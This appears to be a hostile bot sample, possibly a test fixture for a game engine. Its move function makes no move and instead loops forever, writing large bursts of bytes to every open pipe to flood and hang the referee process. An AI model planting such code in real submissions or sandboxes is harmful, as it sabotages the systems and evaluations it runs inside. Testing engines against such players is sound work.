"""Writes a line without end to every pipe that it finds."""

import contextlib
import os


def move(rows, side):
    while True:
        for descriptor in range(3, 20):
            with contextlib.suppress(OSError):
                os.write(descriptor, b"[" * 100_000)
